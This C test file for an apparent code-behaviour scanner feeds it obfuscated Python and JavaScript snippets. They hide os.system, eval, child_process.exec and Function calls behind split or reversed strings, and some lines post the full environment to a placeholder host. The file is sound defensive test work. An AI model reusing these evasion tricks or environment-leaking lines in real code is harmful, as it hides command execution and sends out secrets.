/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_hiding_test.c - code that is written so that whoever looks for words finds none.
 */
#include "behavior_case.h"

#define SYSTEM "capability process os.system id"

static const struct behavior_case python[] = {
    { "import os\nos .system('id')\n", SYSTEM, NULL },
    { "import os\nos . system('id')\n", SYSTEM, NULL },
    { "import os\nos\\\n.system('id')\n", SYSTEM, NULL },
    { "import os\n(os # it\n  .system('id'))\n", SYSTEM, NULL },
    { "from\tos import system as s\ns('id')\n", SYSTEM, NULL },
    { "from os\\\n import system as s\ns('id')\n", SYSTEM, NULL },
    { "import\tos\nfor m in os,:\n    m.system('id')\n", SYSTEM, NULL },
    { "import os\ndef f(): return os\nf().system('id')\n", SYSTEM, NULL },
    { "import os; x = os; x.system('id')\n", SYSTEM, NULL },
    { "import subprocess\nx = 1 if 0 else subprocess .run(['id'])\n",
      "capability process subprocess.run id", NULL },
    { "import os\ng = getattr\ng(os, 'sys' + 'tem')('id')\n", SYSTEM, NULL },
    { "import os\ngetattr (os, 'sys' + 'tem') ('id')\n", SYSTEM, NULL },
    { "open ('/tmp/x', m + 'w')\nopen('/tmp/x', # to read\n 'w')\n", "capability file-write",
      NULL },
    { "open('x')\nopen('x', 'rb').read()\n", NULL, "capability" },
    /* values that are reached on other ways */
    { "import os\n(0 or os).system('id')\n", SYSTEM, NULL },
    { "import os\n@os.system\ndef id(): pass\n", "capability process os.system line:2", NULL },
    { "import os\nclass A:\n    @property\n    def eval(self): pass\n    @x.y\n    def exec(self): "
      "pass\n",
      NULL, "capability" },
    { "import os\nmatch os:\n    case m:\n        m.system('id')\n", SYSTEM, NULL },
    { "import os\ns = [1, os]\nmatch s:\n    case [1, x]:\n        x.system('id')\n", SYSTEM,
      NULL },
    { "import os\nmatch os:\n    case object() as m:\n        m.system('id')\n", SYSTEM, NULL },
    { "import os\nmatch 1:\n    case os.EX_OK:\n        os.system('id')\n", SYSTEM, NULL },
    { "import operator, builtins\noperator.itemgetter('lave'[::-1])(builtins.__dict__)('1')\n",
      "capability dynamic-code eval 1\ncapability hidden-name eval", NULL },
    { "import operator, os\noperator.methodcaller('sys' + 'tem', 'id')(os)\n",
      "capability process os.system", NULL },
    { "import sys\ngetattr(sys.modules.get('os'), 'sys' + 'tem')('id')\n", SYSTEM, NULL },
    { "import os\nos.__dict__.get('sys' + 'tem')('id')\n", SYSTEM, NULL },
    { "import sys\nsys._getframe(1).f_builtins['eval']('1')\n", "capability dynamic-code eval",
      NULL },
    { "import shutil\nshutil.os.system('id')\n", SYSTEM, NULL },
    { "from shutil import os as x\nx.system('id')\n", SYSTEM, NULL },
    { "from . import os as x\nx.system('id')\n", NULL, "capability" },
    { "import os\nx = [n for n in dir(os) if n][0]\ngetattr(os, x)('id')\n",
      "capability hidden-name os", NULL },
    { "import os, json, requests\nrequests.post('http://a.invalid', json=dict(env=os.environ))\n",
      "flow env-all network", NULL },
    { "import os, subprocess\nsubprocess.run(['ls'], **{'env': os.environ})\n",
      "capability process ls", "flow" },
    { "import os\nprint(os.path.join('a', os.sep), os.getcwd(), os . name)\n", NULL, "capability" },
};

static const struct behavior_case script[] = {
    { "require (\"child_\" + \"process\").exec('id');", "capability process child_process.exec id",
      NULL },
    { "const r = require; r('child_' + 'process').exec('id');",
      "capability process child_process.exec id", NULL },
    { "(() => {})['constr' + 'uctor']('return 1')();", "capability dynamic-code Function", NULL },
    { "let p = 'constr' + 'uctor'; (() => {})[p] /* it */ ('return 1')();",
      "capability dynamic-code Function", NULL },
    { "function f() { return process /* it */ .env }\nfetch('http://a.invalid', {body: f()});",
      "flow env-all network", NULL },
    { "require.call(null, 'child_' + 'process').exec('id');",
      "capability process child_process.exec id", NULL },
    { "[null, require][1]('child_' + 'process').exec('id');",
      "capability process child_process.exec id", NULL },
    { "(0, eval)('1')(x);", "capability dynamic-code eval", NULL },
    { "const b = []; b.constructor.constructor('return 1')();", "capability dynamic-code Function",
      NULL },
    { "''['sub']['constructor']('return 1')();", "capability dynamic-code Function", NULL },
    { "Reflect.get(globalThis, 'hctef'.split('').reverse().join(''))('http://a.invalid');",
      "capability network fetch\ncapability hidden-name fetch", NULL },
    { "function f(k) { globalThis[k]('x') }", "capability hidden-name globalThis", NULL },
    /* an environment that is handed to a program, and one that leaves */
    { "fetch('http://a.invalid', {body: JSON.stringify({env: process.env})});",
      "flow env-all network", NULL },
    { "const p = {a: {env: process.env}}; client.post('/', p);", "flow env-all network", NULL },
    { "require('child_process').spawn('ls', [], {env: process.env, stdio: 'inherit'});",
      "capability process", "flow\nenv-all" },
    { "const o = {env: process.env}; run('ls', {...o, cwd: 'x'});", NULL, "flow\nenv-all" },
    { "const a = [1, 2]; module.exports = a[0] + require('x').y;", NULL, "capability" },
};

static void test_python(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, python, LW_COUNT(python));
}

static void test_script(void **state)
{
    (void)state;
    check_cases(LW_LANG_JAVASCRIPT, script, LW_COUNT(script));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_python),
                                        cmocka_unit_test(test_script) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
